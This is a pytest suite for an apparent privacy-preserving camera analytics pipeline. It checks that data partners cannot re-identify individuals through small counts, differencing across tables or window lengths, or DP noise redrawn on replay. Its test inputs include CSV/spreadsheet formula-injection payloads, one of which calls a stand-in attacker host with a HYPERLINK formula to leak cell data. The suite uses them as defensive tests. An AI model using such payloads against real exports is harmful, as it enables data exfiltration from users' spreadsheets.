"""The attack suite of issue 12: what a partner who keeps everything it ever received can learn.

Scene pairs differ by one object (one person of a rare attribute, one dwelling visitor, one fast car,
one person crossing alone at night); each runs through the stream worker's own engine (decoding,
TrackBook, WindowStore, the disclosure policy: `tests/privacy/scenes.py`), and everything a partner
receives from the pair must be identical, or differ only in fields docs/privacy-model.md allows (the
crowding level, G5; noisy counts in DP mode). The rule (c) attacks compute what an attacker would:
totals minus parts across tables, windows of another length minus published ones, and a window
published again after a crash.

One test per finding of the issue (each fails on the code before the policy):
1. `test_finding_1_...` (rule a): occupancy statistics of fewer than k people;
2. `test_finding_2_...` (rule b): a suppressed row that says "at least one";
3. the partner-schema allowlist: part A's tests, tests/schemas/test_partner_leaks.py (each construct of
   the finding refused, naming its field; a non-record schema refused, never a crash) and
   tests/schemas/test_lint_cli.py (`privaflow schemas lint`);
4. `test_finding_4_...`: the worker's /tables and the edge's /metrics bind to 127.0.0.1 by default
   (the operator view and its token: tests/api/test_partner_api.py, tests/dashboard/);
5. `test_finding_5_...` (rule e): free text from the edge is a dead letter, never a partner row (CSV
   neutralisation: tests/api/test_partner_rows.py);
6. `test_finding_6_...` (rule f): dead letters kept no longer than detections, and said what they hold.
"""

from __future__ import annotations

from typing import Any

import pytest

from privaflow.schemas.site import SiteConfig
from privaflow.schemas.topics import DETECTIONS_DLQ, dp_topic_name, partner_topic_name, topics_for_site
from privaflow.streams.consume import Outcome
from tests.privacy.scenes import (
    FPS,
    Walker,
    Worker,
    crossing_person,
    differences,
    everything,
    frames,
    received,
    run,
    site_with,
)

RETAILER = {"id": "retailer", "k_anonymity": 10, "tables": ["occupancy", "dwell", "attributes"]}
CITY = {"id": "city", "k_anonymity": 5, "tables": ["traffic_volume", "occupancy", "flow_lines"]}
LAB = {"id": "lab", "tables": ["traffic_volume", "occupancy"],
       "privacy": {"mechanism": "laplace", "epsilon_per_day": 100.0, "epsilon_per_window": 1.0}}

# twelve ordinary visitors crossing the door line, one after the other (never in a zone)
CROWD = [crossing_person(100 + i, 1.0 + 2 * i, age="30-39", gender="male") for i in range(12)]


def dwelling_visitor(track: int = 1) -> Walker:
    """Walks in through the door, stands 45 s at the shelf, leaves the picture at the bottom."""
    return Walker(track, ((0.3, 0.1), (0.25, 0.8), (0.25, 0.99)), 2.0, age="70+", gender="female", pause_s=45)


def test_finding_1_occupancy_does_not_give_away_a_lone_dwelling_visitor() -> None:
    """Finding 1 (rule a): one 70+ woman alone at the shelf for 45 s gave max_present 1 and a mean_present
    that is her share of the window, the very dwell and presence that dwell and attributes withheld.
    Now the head-count statistics need k distinct people; the crowding level alone tells EMPTY from
    LOW, the presence bit G5 needs and the model accepts."""
    site = site_with([RETAILER])
    without = run(site, CROWD, 100, "retailer")
    with_her = run(site, [*CROWD, dwelling_visitor()], 100, "retailer")
    assert without[partner_topic_name("attributes")], "the crowd's own attributes are published (12 >= 10)"
    assert differences(without, with_her, allowed={"occupancy": ["crowding_level"]}) == []
    occupancy = with_her[partner_topic_name("occupancy")].values()
    levels = [v["crowding_level"] for v in occupancy if v["zone_id"] == "shelf"]
    assert "LOW" in levels  # she is there, and the level says somebody is (G5), nothing more


def test_finding_2_a_rare_attribute_does_not_make_a_row() -> None:
    """Finding 2 (rule b): a suppressed (70+, female) row was published only when such a person was
    seen, so the row itself said "at least one". Below k a cell is absent, as when nobody was there."""
    site = site_with([RETAILER])
    rare = crossing_person(1, 30.0, age="70+", gender="female")
    assert differences(run(site, CROWD, 60, "retailer"), run(site, [*CROWD, rare], 60, "retailer")) == []


def test_a_lone_fast_car_leaves_no_row_and_no_speed() -> None:
    """Rules (a), (b): one car racing out through the door line, alone in its direction, among six cars
    driving in: no row says it was there, no mean speed is its speed."""
    site = site_with([CITY])
    cars = [Walker(i, ((0.1 + 0.1 * i, 0.05), (0.1 + 0.1 * i, 0.58)), 1.0 + 3 * i, cls="car", speed_kmh=30.0)
            for i in range(1, 7)]
    racer = Walker(50, ((0.5, 0.58), (0.5, 0.05)), 25.0, step=0.08, cls="car", speed_kmh=120.0)
    calm, raced = run(site, cars, 60, "city"), run(site, [*cars, racer], 60, "city")
    assert [v["count"] for v in calm[partner_topic_name("traffic_volume")].values()] == [6]
    assert differences(calm, raced) == []


def test_one_person_crossing_alone_at_night_leaves_no_trace() -> None:
    """Rule (b): nobody, or one person crossing at night: the city receives the same."""
    site = site_with([CITY])
    assert differences(run(site, [], 60, "city"), run(site, [crossing_person(1, 10.0)], 60, "city")) == []


def test_a_dp_partner_gets_the_same_rows_whoever_was_there_with_noise_only_in_counts() -> None:
    """Rules (b), (d): in DP mode every cell of the grid the site config defines is published, zeros
    included, so the rows are the same whether the night-time person was there or not; values differ
    only by noisy counts and what derives from them. Statistics are withheld."""
    site = site_with([LAB])
    night, alone = run(site, [], 60, "lab"), run(site, [crossing_person(1, 10.0)], 60, "lab")
    tv = dp_topic_name("lab", "traffic_volume")
    # door-line x (in, out) x (person, car), every window
    assert len(night[tv]) % 4 == 0 and len(night[tv]) >= 4 and set(night) == set(alone)
    assert differences(night, alone, allowed={"traffic_volume": ["count"],
                                              "occupancy": ["p95_present", "capacity_ratio", "crowding_level"]}) == []
    assert all(v["mean_speed_kmh"] is None and v["suppressed"] for v in alone[tv].values())
    assert all(v["mean_present"] is None and v["max_present"] is None
               for v in alone[dp_topic_name("lab", "occupancy")].values())


# ---------------------------------------------------------------- rule (c): recomputing what was withheld


def _attacker_differences(got: dict[str, dict[str, dict[str, Any]]], site: SiteConfig) -> list[int]:
    """Per attributes window and door line: persons of traffic_volume in the windows it covers, minus
    the published attribute counts. Anything from 1 to k-1 is a withheld count recomputed."""
    tv = list(got.get(partner_topic_name("traffic_volume"), {}).values())
    attrs = list(got.get(partner_topic_name("attributes"), {}).values())
    windows = {(a["window_start"], a["window_end"]) for a in attrs} | {
        (t["window_start"] - t["window_start"] % (site.windows.attributes * 1000),
         t["window_start"] - t["window_start"] % (site.windows.attributes * 1000) + site.windows.attributes * 1000)
        for t in tv}
    out = []
    for start, end in sorted(windows):
        # the attacker adds up whichever windows of each table tile the longer of the two
        lo, hi = min(start, _tile_start(start, site)), max(end, _tile_end(end, site))
        persons = sum(t["count"] or 0 for t in tv if t["class_name"] == "person" and lo <= t["window_start"] < hi)
        parts = sum(a["count"] or 0 for a in attrs if a["place_id"] == "door-line" and lo <= a["window_start"] < hi)
        out.append(persons - parts)
    return out


def _tile_start(ms: int, site: SiteConfig) -> int:
    size = max(site.windows.traffic_volume, site.windows.attributes) * 1000
    return ms - ms % size


def _tile_end(ms: int, site: SiteConfig) -> int:
    size = max(site.windows.traffic_volume, site.windows.attributes) * 1000
    return -(-ms // size) * size


@pytest.mark.parametrize("lengths", [(60, 60), (30, 60), (60, 30)], ids=["same", "attributes-longer",
                                                                          "traffic-longer"])
def test_withheld_attributes_are_not_traffic_volume_minus_published_attributes(lengths: tuple[int, int]) -> None:
    """Rule (c), totals minus parts: the city gets traffic_volume and attributes at the door. Twelve
    ordinary visitors and one 70+ woman cross: persons 13, published attribute cells 12, so 13 - 12 = 1
    would be her. The parts give way (or the total, when its windows are the longer ones) until the
    difference an attacker computes is 0 or at least k."""
    tv_s, attr_s = lengths
    site = site_with([{"id": "city", "k_anonymity": 5, "tables": ["traffic_volume", "attributes"]}],
                     windows={"traffic_volume": tv_s, "attributes": attr_s})
    rare = crossing_person(1, 13.0, age="70+", gender="female")
    for scene in ([*CROWD], [*CROWD, rare]):
        diffs = _attacker_differences(run(site, scene, 60, "city"), site)
        assert diffs and all(d <= 0 or d >= 5 for d in diffs), diffs
    # and without the woman nothing gave way: the crowd's cell is published
    crowd_only = run(site, CROWD, 60, "city")[partner_topic_name("attributes")]
    assert sum(v["count"] for v in crowd_only.values()) == 12


def test_a_window_length_change_does_not_reveal_the_withheld_windows() -> None:
    """Rule (c), windows of other lengths: six cars in the first minute (published), one car alone in the
    second (withheld); then the site moves traffic_volume to 300-s windows and the worker restarts. The
    300-s window holding both minutes minus the published 60-s one would be the lone car: it is never
    published, and the first window of the new length starts where the old ones ended."""
    short = site_with([CITY], windows={"traffic_volume": 60})
    long = site_with([CITY], windows={"traffic_volume": 300})
    cars = [Walker(i, ((0.1 + 0.1 * i, 0.05), (0.1 + 0.1 * i, 0.58)), 1.0 + 3 * i, cls="car") for i in range(1, 7)]
    lone = Walker(50, ((0.5, 0.05), (0.5, 0.58)), 70.0, cls="car")
    later = [Walker(60 + i, ((0.1 + 0.1 * i, 0.05), (0.1 + 0.1 * i, 0.58)), 310.0 + 3 * i, cls="car")
             for i in range(1, 7)]
    fs = frames([*cars, lone, *later], 700)
    worker = Worker(short)
    outcomes = [worker.apply(worker.records(fs[i:i + 50])) for i in range(0, 135 * FPS, 50)]
    worker.site = long  # the new config, read at the restart; the state table is what the old worker left
    worker.restart()
    outcomes += [worker.apply(worker.records(fs[i:i + 50])) for i in range(135 * FPS, len(fs), 50)]
    got = received(outcomes, long, "city")[partner_topic_name("traffic_volume")].values()
    by_length: dict[int, list[tuple[int, int]]] = {}
    for v in got:
        by_length.setdefault(v["window_length_s"], []).append((v["window_start"], v["window_end"]))
    assert by_length[60] and by_length[300], by_length  # both lengths were published
    last_short_end = max(end for _, end in by_length[60])
    assert all(start >= last_short_end for start, _ in by_length[300])
    assert all(v["count"] == 6 for v in got)  # the lone car is in no published window


def _crash_after_every_batch(partner: dict[str, Any], lose_book: bool = False
                             ) -> tuple[int, dict[tuple[str, str], dict[str, Any]], list[tuple[str, str]]]:
    """Publish each batch, die before writing state, replay it: (records published again, first value of
    each (topic, key), those published again with other values)."""
    site = site_with([partner])
    fs = frames([*CROWD, crossing_person(1, 30.0), *[crossing_person(200 + i, 70.0 + i) for i in range(6)]], 200)
    worker = Worker(site)
    outcomes: list[Outcome] = []
    for i in range(0, len(fs), 100):
        batch = worker.records(fs[i:i + 100])
        out = worker.apply(batch, checkpoint=False)  # published, then the crash: no state written
        outcomes.append(out)
        worker.restart(lose_book=lose_book)
        outcomes.append(worker.apply(batch))  # the replay, from the last checkpoint
    released = [(t, k, v) for t, k, v in everything(outcomes) if t.startswith(("privaflow.partner.",))]
    first: dict[tuple[str, str], dict[str, Any]] = {}
    again, differ = 0, []
    for topic, key, value in released:
        if (topic, key) in first:
            again += 1
            if first[(topic, key)] != value:
                differ.append((topic, key))
        first.setdefault((topic, key), value)
    return again, first, differ


@pytest.mark.parametrize("partner", [CITY, LAB], ids=["k-anonymity", "differential-privacy"])
def test_a_window_published_again_after_a_crash_is_identical(partner: dict[str, Any]) -> None:
    """Rule (c), republished windows: the worker publishes, dies before writing its state, and replays.
    Every record published twice carries the same values (in DP mode the same noise, read back from the
    release book: averaging two releases of one window is not possible)."""
    again, first, differ = _crash_after_every_batch(partner)
    assert again > 0 and len(first) > 0  # windows were published, and published again
    assert differ == []


def test_without_the_release_book_a_replay_would_draw_the_dp_noise_again() -> None:
    """What makes the DP replay identical is the book: OpenDP takes no seed, so the same replay with the
    book's topic lost releases the windows with fresh noise, which a partner could average."""
    again, _, differ = _crash_after_every_batch(LAB, lose_book=True)
    # 18 records published again, each equal by chance with probability ~0.55: all equal ~1e-5
    assert again > 0 and differ, again


# ---------------------------------------------------------------- findings 4, 5, 6


def test_finding_4_the_workers_tables_and_the_edges_metrics_answer_this_machine_only() -> None:
    """Finding 4: the worker's /tables (unsuppressed counts of open windows) listened on 0.0.0.0 with no
    login. Both it and the edge's /metrics bind to 127.0.0.1 unless opened (--web-host, --metrics-host)."""
    from click.testing import CliRunner

    from privaflow.edge.cli import edge
    from privaflow.edge.health import HealthServer, Metrics
    from privaflow.streams import faust_compat
    from privaflow.streams.cli import streams
    from privaflow.streams.settings import from_environment

    site = site_with([CITY])
    settings = from_environment(site, env={})
    assert settings.web_host == "127.0.0.1"
    assert faust_compat.faust_config(settings, 1)["web_bind"] == "127.0.0.1"
    assert from_environment(site, env={"PRIVAFLOW_WEB_HOST": "0.0.0.0"}).web_host == "0.0.0.0"
    assert from_environment(site, env={}, web_host="10.1.2.3").web_host == "10.1.2.3"
    assert "--web-host" in CliRunner().invoke(streams, ["worker", "--help"]).output
    server = HealthServer(0, dict, Metrics("cam", dict), lambda: True)
    try:
        assert server._server.server_address[0] == "127.0.0.1"
    finally:
        server._server.server_close()
    run_help = CliRunner().invoke(edge, ["run", "--help"]).output
    assert "--metrics-host" in run_help and "[default: 127.0.0.1]" in " ".join(run_help.split())


@pytest.mark.parametrize(("field", "text"), [("class_name", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
                                             ("class_name", "truck"), ("age_bracket", "plate KA-01-1234"),
                                             ("gender", "@SUM(A1)"), ("colour", "+1+1")])
def test_finding_5_free_text_from_the_edge_is_a_dead_letter_never_a_partner_row(field: str, text: str) -> None:
    """Finding 5 (rule e): whoever holds the edge credential could put a plate number or a spreadsheet
    formula in class_name, age_bracket or gender, and it travelled to partner topics and CSV exports
    (or, outside the closed vocabularies, crashed the worker). Such a record is a dead letter now, its
    reason names the field; the worker goes on and no partner row carries it. ("truck" is a real class
    but not one this camera counts.)"""
    site = site_with([CITY, RETAILER])
    fs = frames([*CROWD, crossing_person(1, 3.0)], 120)
    for f in fs:
        for d in f["detections"]:
            if d["track_id"] == 1:
                d[field] = text
    worker = Worker(site)
    outcomes = [worker.apply(worker.records(fs[i:i + 50])) for i in range(0, len(fs), 50)]
    dead = [d for o in outcomes for d in o.dead]
    # a class the camera does not count is kind `class`, a label outside its vocabulary kind `label`
    assert dead and all(d.kind in ("label", "class") and field.split("_")[0] in d.reason for d in dead)
    published = [v for o in outcomes for r in o.released.records for v in r.value.values()]
    assert published and text not in published
    assert sum(o.applied for o in outcomes) == len(fs) - len(dead)


def test_finding_6_dead_letters_are_kept_no_longer_than_detections_and_said_what_they_hold() -> None:
    """Finding 6 (rule f): the dead-letter topic kept whole detection records (track ids, ms timestamps,
    attributes) for 30 days whatever the site said, and the privacy report called them merely
    undecodable."""
    from privaflow.governance.report import privacy_report

    site = site_with([CITY], retention={"detections_days": 3, "partner_days": 365})
    topics = {t.name: t for t in topics_for_site(site)}
    assert int(topics[DETECTIONS_DLQ].retention_ms) == 3 * 86_400_000
    [kept] = [k for k in privacy_report(site)["cameras"][0]["kept"] if DETECTIONS_DLQ in k["topics"]]
    assert kept["retention_days"] == 3
    for what in ("pseudonymous track ids", "millisecond timestamps", "attribute estimates", "labels outside"):
        assert what in kept["description"]
